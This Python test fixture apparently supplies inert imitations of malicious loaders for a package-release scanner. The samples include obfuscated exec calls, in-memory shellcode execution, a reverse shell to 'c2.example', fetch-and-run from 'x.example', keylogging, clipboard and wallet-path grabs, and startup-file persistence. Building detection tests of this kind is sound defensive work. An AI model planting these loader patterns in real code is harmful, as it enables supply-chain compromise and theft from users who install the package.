"""Inert imitations of loaders, as published attacks of the last years have them: mostly in a function that waits.

Each is a piece of text that is added to one module; hosts end in `.example`, and nothing of it is ever run.
"""

# ruff: noqa: E501 -- lines of attacks are as long as they were
from __future__ import annotations

from support.attacks import Attack
from support.releases import CORE_TEXT, ENTRY_POINTS, PACKAGE, Content, TextRelease

_CODE = (
    ("docstring-run", "code-computed", 'def go():\n    """import os"""\n    exec(go.__doc__)\n'),
    (
        "metadata-run", "code-computed",
        "def go():\n    from importlib import metadata\n    exec(metadata.metadata('inert')['Keywords'])\n",
    ),
    (
        "package-data-run", "code-computed",
        "from importlib.resources import files\n\n\ndef go():\n    exec(files('inert').joinpath('a.txt').read_text())\n",
    ),
    (
        "bits-of-a-picture", "code-computed",
        ("from PIL import Image\n\n\ndef go():\n    bits = ''.join(str(p & 1) for p in Image.open('a.png').getdata())\n"
        "    exec(''.join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8)))\n"),
    ),
    ("decrypted", "code-computed", "from cryptography.fernet import Fernet\n\n\ndef go():\n    exec(Fernet(b'k').decrypt(b't'))\n"),
    ("xor", "code-computed", "def go():\n    exec(bytes(c ^ 7 for c in b'njwhus'))\n"),
    ("put-together", "code-computed", "def go():\n    exec('iXmport oXs'.replace('X', ''))\n"),
    ("marshal-chain", "code-decoded", "import marshal, zlib\n\n\ndef go(b):\n    exec(marshal.loads(zlib.decompress(b)))\n"),
    ("escaped-name", "code-hidden-name", "import os\n\n\ndef go():\n    getattr(os, '\\x73\\x79stem')('true')\n"),
    ("escaped-module", "code-hidden-name", "def go():\n    __import__('\\x6f\\x73').getpid()\n"),
    ("cut-up-name", "code-hidden-name", "import os\n\n\ndef go():\n    getattr(os, 'sys' + 'tem')('true')\n"),
    (
        "reversed-module", "code-hidden-name",
        "import importlib\n\n\ndef go():\n    importlib.import_module('ssecorpbus'[::-1]).run(['true'])\n",
    ),
    ("inline-import", "code-hidden-name", "def go(x):\n    return f\"{__import__('os').system(x)}\"\n"),
    (
        "builtins-in-a-lambda", "code-hidden-name",
        "run = lambda s: (lambda g: g['ex' + 'ec'])(vars(__import__('builtins')))(s)\nrun('pass')\n",
    ),
    ("builtin-by-getattr", "code-hidden-name", "import builtins\n\n\ndef go(s):\n    getattr(builtins, 'exec')(s)\n"),
    (
        "executable-map", "code-memory",
        ("import ctypes\nimport mmap\n\n\ndef go(code):\n    area = mmap.mmap(-1, len(code), prot=mmap.PROT_EXEC)\n"
        "    area.write(code)\n    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_int.from_buffer(area)))()\n"),
    ),
    (
        "virtual-alloc", "code-memory",
        ("import ctypes\n\n\ndef go(code):\n    place = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)\n"
        "    ctypes.windll.kernel32.CreateThread(0, 0, place, 0, 0, 0)\n"),
    ),
    ("memory-file", "code-memory", "import os\n\n\ndef go(b):\n    fd = os.memfd_create('x')\n    os.execv(f'/proc/self/fd/{fd}', ['x'])\n"),
    ("c-api", "code-memory", "import ctypes\n\n\ndef go(s):\n    ctypes.pythonapi.PyRun_SimpleString(s)\n"),
    (
        "library-from-bytes", "code-native-written",
        ("import ctypes\nimport tempfile\n\n\ndef go(b):\n    with tempfile.NamedTemporaryFile(delete=False) as f:\n"
        "        f.write(b)\n    ctypes.CDLL(f.name)\n"),
    ),
    (
        "remote-shell", "code-remote-shell",
        ("import os\nimport pty\nimport socket\n\n\ndef go():\n    s = socket.create_connection(('c2.example', 1))\n"
        "    [os.dup2(s.fileno(), n) for n in (0, 1, 2)]\n    pty.spawn('/bin/sh')\n"),
    ),
    (
        "fetched-program", "code-fetched-program",
        ("import subprocess\nimport urllib.request\n\n\ndef go():\n"
        "    urllib.request.urlretrieve('https://x.example/a', '/tmp/a')\n    subprocess.run(['/tmp/a'])\n"),
    ),
    (
        "installs-another", "code-installs",
        "import subprocess\nimport sys\n\n\ndef go():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n",
    ),
    ("installs-by-pip-itself", "code-installs", "def go():\n    import pip\n    pip.main(['install', 'x'])\n"),
    ("run-later", "code-dynamic", "def go(text):\n    exec(text)\n"),
    ("loaded-later", "code-deserialise", "import pickle\n\n\ndef go(data):\n    return pickle.loads(data)\n"),
    ("keys", "code-captures", "from pynput import keyboard\n\n\ndef go():\n    keyboard.Listener(on_press=print).start()\n"),
    ("clipboard", "code-captures", "import pyperclip\n\n\ndef go():\n    return pyperclip.paste()\n"),
    (
        "startup-file-written", "persistence",
        "import sysconfig\n\n\ndef go():\n    open(sysconfig.get_paths()['purelib'] + '/x.pth', 'w').close()\n",
    ),
    ("decorator", "import-process", "import subprocess\n\n\n@subprocess.Popen\ndef go():\n    return ['true']\n"),
    ("wallets", "secret-file", "def go(home):\n    return home + '/.config/google-chrome/x/Local Extension Settings'\n"),
)  # fmt: skip


def _in_core(name: str, rule: str, text: str) -> Attack:
    return Attack(
        name, TextRelease("1.1", both={"inert/core.py": f"{CORE_TEXT}\n\n{text}"}), (rule,), ("inert/core.py",)
    )


def _of(name: str, rule: str, path: str, **changes: object) -> Attack:
    return Attack(name, TextRelease("1.1", **changes), (rule,), (path,))  # type: ignore[arg-type]


_FAR_RIGHT: dict[str, Content] = {
    "inert/core.py": CORE_TEXT.replace("import json\n", "import json" + " " * 60 + ";import os\n")
}

LOADERS: tuple[Attack, ...] = (
    *(_in_core(*one) for one in _CODE),
    _of("blanks-before-a-semicolon", "text-padding", "inert/core.py", both=_FAR_RIGHT),
    _of("sitecustomize", "startup-code", "sitecustomize.py", wheel={"sitecustomize.py": "import os\n"}),
    _of(
        "shadowed-tool", "command-shadow", "inert/cli.py",
        entry_points=ENTRY_POINTS + "pip = inert.cli:main\n", both={"inert/cli.py": f"{PACKAGE['inert/cli.py']!s}\n#\n"},
    ),
    _of("conftest-installed", "top-level-new", "conftest.py", both={"conftest.py": "import os\n\nos.getcwd()\n"}),
)  # fmt: skip
